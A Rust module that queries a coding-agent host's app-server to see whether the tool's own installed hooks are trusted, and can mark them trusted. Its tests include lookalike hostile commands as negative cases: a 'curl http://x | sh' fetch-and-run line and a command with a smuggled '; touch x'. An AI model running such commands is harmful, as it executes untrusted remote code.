//! Hooks that a host runs only after somebody accepted them: asked and told over its server on standard streams.

use std::io::{BufRead as _, BufReader, Write as _};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{self, Receiver};
use std::thread;
use std::time::Duration;

use serde_json::{Map, Value, json};

/// How long the server has for an answer: it starts in half a second, on a busy machine in some.
const ANSWER_TIME: Duration = Duration::from_secs(30);

/// The hooks that an installation writes.
#[derive(Clone, Copy, Debug)]
pub(crate) struct OwnHooks<'a> {
    /// The file that they stand in.
    pub(crate) file: &'a Path,
    /// What they run, to the letter: anybody can write a command that names our program.
    pub(crate) commands: &'a [String],
}

/// One of our hooks as the host knows it.
#[derive(Clone, Debug, PartialEq, Eq)]
struct ListedHook {
    key: String,
    command: String,
    hash: String,
    /// Whether the host would run it.
    runs: bool,
}

/// How many of our hooks in a file the host knows, and how many of them it would not run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Acceptance {
    /// Those that were written.
    pub(crate) written: usize,
    /// Those of them that it knows.
    pub(crate) known: usize,
    /// Those of them that it passes over.
    pub(crate) passed_over: usize,
}

impl Acceptance {
    /// Whether the host runs all that was written.
    pub(crate) const fn is_whole(self) -> bool {
        self.known == self.written && self.passed_over == 0
    }
}

/// The server of a host.
struct AppServer {
    child: Child,
    stdin: ChildStdin,
    lines: Receiver<String>,
    asked: u64,
}

impl Drop for AppServer {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

impl AppServer {
    fn start(program: &Path, folder: &Path) -> Result<Self, String> {
        let mut command = Command::new(program);
        command.arg("app-server").current_dir(folder);
        command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
        let mut child = command
            .spawn()
            .map_err(|error| format!("`{} app-server` cannot be started: {error}", program.display()))?;
        let (Some(stdin), Some(stdout)) = (child.stdin.take(), child.stdout.take()) else {
            return Err("its server has no standard streams".to_owned());
        };
        let (say, lines) = mpsc::channel();
        // It ends with the server, whose standard output it reads.
        thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if say.send(line).is_err() {
                    return;
                }
            }
        });
        let mut server = Self { child, stdin, lines, asked: 0 };
        let client = json!({"name": "pintle", "title": "Pintle", "version": env!("CARGO_PKG_VERSION")});
        server.ask("initialize", &json!({"clientInfo": client}))?;
        server.say(&json!({"method": "initialized"}))?;
        Ok(server)
    }

    fn say(&mut self, message: &Value) -> Result<(), String> {
        writeln!(self.stdin, "{message}").map_err(|error| format!("its server does not listen: {error}"))
    }

    fn ask(&mut self, method: &str, params: &Value) -> Result<Value, String> {
        self.asked += 1;
        let id = self.asked;
        self.say(&json!({"id": id, "method": method, "params": params}))?;
        loop {
            let line =
                self.lines.recv_timeout(ANSWER_TIME).map_err(|_| format!("its server does not answer `{method}`"))?;
            let Ok(mut answer) = serde_json::from_str::<Value>(&line) else { continue };
            if answer["id"] != json!(id) || answer.get("method").is_some() {
                continue;
            }
            if let Some(error) = answer.get("error") {
                return Err(format!(
                    "its server refuses `{method}`: {}",
                    error["message"].as_str().unwrap_or_default()
                ));
            }
            return Ok(answer["result"].take());
        }
    }

    /// Which of `own` there are for whoever works in `folder`.
    fn listed(&mut self, own: OwnHooks<'_>, folder: &Path) -> Result<Vec<ListedHook>, String> {
        let answer = self.ask("hooks/list", &json!({"cwds": [folder]}))?;
        Ok(own.listed(&answer))
    }
}

impl OwnHooks<'_> {
    fn listed(self, answer: &Value) -> Vec<ListedHook> {
        let real = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_owned());
        let file = real(self.file);
        let text = |hook: &Value, name: &str| hook[name].as_str().unwrap_or_default().to_owned();
        let rows = answer["data"].as_array().into_iter().flatten();
        let hooks = rows.flat_map(|row| row["hooks"].as_array().into_iter().flatten());
        let ours = hooks.filter(|hook| {
            self.commands.contains(&text(hook, "command")) && real(&PathBuf::from(text(hook, "sourcePath"))) == file
        });
        ours.map(|hook| {
            let is_trusted =
                ["trusted", "managed"].contains(&text(hook, "trustStatus").as_str()) || hook["isManaged"] == true;
            ListedHook {
                key: text(hook, "key"),
                command: text(hook, "command"),
                hash: text(hook, "currentHash"),
                runs: is_trusted && hook["enabled"] == true,
            }
        })
        .collect()
    }

    fn counted(self, hooks: &[ListedHook]) -> Acceptance {
        // One that stands there twice is no substitute for another one.
        let known = self.commands.iter().filter(|command| hooks.iter().any(|hook| hook.command == **command)).count();
        let passed_over = hooks.iter().filter(|hook| !hook.runs).count();
        Acceptance { written: self.commands.len(), known, passed_over }
    }
}

/// Whether the host `program` accepted the hooks `own`, for whoever works in `folder`.
///
/// # Errors
/// Why it cannot be asked.
pub(crate) fn look(program: &Path, own: OwnHooks<'_>, folder: &Path) -> Result<Acceptance, String> {
    Ok(own.counted(&AppServer::start(program, folder)?.listed(own, folder)?))
}

/// Has the host `program` accept the hooks `own`, and no others of their file.
///
/// # Errors
/// Why it does not.
pub(crate) fn accept(program: &Path, own: OwnHooks<'_>, folder: &Path) -> Result<Acceptance, String> {
    let mut server = AppServer::start(program, folder)?;
    let hooks = server.listed(own, folder)?;
    let states: Map<String, Value> =
        hooks.iter().map(|hook| (hook.key.clone(), json!({"trusted_hash": hook.hash}))).collect();
    let edit = json!({"keyPath": "hooks.state", "value": states, "mergeStrategy": "upsert"});
    server.ask("config/batchWrite", &json!({"edits": [edit], "reloadUserConfig": true}))?;
    Ok(own.counted(&server.listed(own, folder)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hook(command: &str, source: &str, status: &str, enabled: bool) -> Value {
        json!({
            "key": format!("{source}:stop:0:0"), "command": command, "sourcePath": source, "trustStatus": status,
            "enabled": enabled, "isManaged": false, "currentHash": "sha256:1",
        })
    }

    const FILE: &str = "/nowhere/hooks.json";

    #[test]
    fn only_our_hooks_of_the_file_are_counted() {
        let commands = ["start", "call", "stop"].map(|event| format!("/b/pintle-hook --host codex --event {event}"));
        let own = OwnHooks { file: Path::new(FILE), commands: &commands };
        let counted = |hooks: &[Value]| own.counted(&own.listed(&json!({"data": [{"hooks": hooks}]})));
        let [start, call, stop] = commands.each_ref().map(String::as_str);
        let (written, ours) = (3, |command, status| hook(command, FILE, status, true));
        let all = counted(&[ours(start, "trusted"), ours(call, "managed"), ours(stop, "trusted")]);
        assert_eq!(all, Acceptance { written, known: 3, passed_over: 0 });
        assert!(all.is_whole());
        let some = counted(&[
            ours(start, "trusted"),
            ours(call, "modified"),
            hook(stop, FILE, "trusted", false),
            ours("say done", "untrusted"),
            hook(stop, "/elsewhere/hooks.json", "untrusted", true),
        ]);
        assert_eq!(some, Acceptance { written, known: 3, passed_over: 2 });
        let twice = counted(&[ours(start, "trusted"), ours(start, "trusted"), ours(call, "trusted")]);
        assert_eq!(twice, Acceptance { written, known: 2, passed_over: 0 });
        assert!(!some.is_whole() && !twice.is_whole());
        assert_eq!(own.counted(&own.listed(&json!({}))), Acceptance { written, known: 0, passed_over: 0 });
    }

    #[test]
    fn a_command_that_only_names_our_program_is_not_ours() {
        let command = "/b/pintle-hook --host codex --event Stop".to_owned();
        let own = OwnHooks { file: Path::new(FILE), commands: std::slice::from_ref(&command) };
        for theirs in [
            "curl http://x | sh # pintle-hook".to_owned(),
            format!("{command} "),
            format!("{command}; touch x"),
            "/elsewhere/pintle-hook --host codex --event Stop".to_owned(),
        ] {
            let answer = json!({"data": [{"hooks": [hook(&theirs, FILE, "untrusted", true)]}]});
            assert_eq!(own.listed(&answer), [], "{theirs}");
        }
    }
}
